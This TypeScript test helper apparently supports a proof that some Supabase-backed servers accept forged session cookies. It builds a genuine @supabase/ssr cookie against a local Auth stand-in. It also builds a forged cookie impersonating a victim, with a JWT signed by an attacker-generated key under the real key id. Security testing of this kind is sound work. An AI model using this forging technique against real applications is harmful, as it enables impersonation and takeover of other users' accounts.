// The two cookies of the forged-cookie proof (scripts/forged-cookie.ts).
// - A genuine session cookie is written by @supabase/ssr itself: a server client with an in-memory cookie
//   jar is handed a session the Auth stand-in issued (`auth.setSession`, which asks the stand-in's
//   `/auth/v1/user` first), so its name, `base64-` encoding and chunking are exactly what the library writes.
// - A forged cookie is what an attacker writes by hand: a session whose `user` is the victim and whose
//   access token claims the victim but is signed with the attacker's own key (under the real key id, which
//   the JWKS publishes). It is plain JSON, a format both @supabase/ssr and the auth-helpers read.
import { generateKeyPairSync, randomUUID, sign } from 'node:crypto';
import { createRequire } from 'node:module';
import { createServerClient } from '@supabase/ssr';
import type { RealtimeClientOptions } from '@supabase/supabase-js';
import type { AuthStandIn, IssuedSession, StandInUser } from './auth-stand-in.ts';

/** A `Cookie` request header. */
export type CookieHeader = string;

const base64url = (data: Buffer | string) => Buffer.from(data).toString('base64url');

/**
 * supabase-js builds a Realtime client in every createClient(), which throws on Node 20 (no global
 * WebSocket). A Next app gets `next/dist/compiled/ws` from Next's server baseline; a script uses the same
 * one. Realtime itself is never used here.
 */
export const realtime: RealtimeClientOptions = {
  transport: (createRequire(import.meta.url)('next/dist/compiled/ws') as { WebSocket: RealtimeClientOptions['transport'] }).WebSocket,
};

/** The cookies @supabase/ssr writes for `session`, as a `Cookie` header, and the session cookie's name. */
export async function genuineCookies(standIn: AuthStandIn, session: IssuedSession): Promise<{ header: CookieHeader; name: string }> {
  const jar = new Map<string, string>();
  const client = createServerClient(standIn.url, standIn.anonKey, {
    realtime,
    cookies: {
      getAll: () => [...jar].map(([name, value]) => ({ name, value })),
      setAll: (cookies) => {
        for (const { name, value } of cookies) {
          if (value) jar.set(name, value);
          else jar.delete(name);
        }
      },
    },
  });
  const { error } = await client.auth.setSession({ access_token: session.access_token, refresh_token: session.refresh_token });
  if (error) throw error;
  // The cookies are written by the client's auth-state listener, after setSession resolves.
  for (let tick = 0; jar.size === 0 && tick < 100; tick++) await new Promise((resolve) => setImmediate(resolve));
  const [first] = jar.keys();
  if (first === undefined) throw new Error('@supabase/ssr wrote no session cookie');
  return {
    header: [...jar].map(([name, value]) => `${name}=${value}`).join('; '),
    // A large session is split into `<name>.0`, `<name>.1`, …
    name: first.replace(/\.\d+$/, ''),
  };
}

/** A session cookie claiming to be `victim`, whose access token the stand-in never signed. */
export function forgedCookie(cookieName: string, standIn: AuthStandIn, victim: StandInUser): CookieHeader {
  const attackerKey = generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey;
  const iat = Math.floor(Date.now() / 1000);
  const claims = { iss: `${standIn.url}/auth/v1`, sub: victim.id, aud: 'authenticated', exp: iat + 3600, iat, email: victim.email, role: 'authenticated', session_id: randomUUID() };
  const input = `${base64url(JSON.stringify({ alg: 'ES256', kid: standIn.kid, typ: 'JWT' }))}.${base64url(JSON.stringify(claims))}`;
  const accessToken = `${input}.${base64url(sign('sha256', Buffer.from(input), { key: attackerKey, dsaEncoding: 'ieee-p1363' }))}`;
  const session = {
    access_token: accessToken,
    token_type: 'bearer',
    expires_in: 3600,
    expires_at: iat + 3600,
    refresh_token: 'forged',
    user: { id: victim.id, aud: 'authenticated', role: 'authenticated', email: victim.email, app_metadata: { provider: 'email' }, user_metadata: {} },
  };
  return `${cookieName}=${encodeURIComponent(JSON.stringify(session))}`;
}
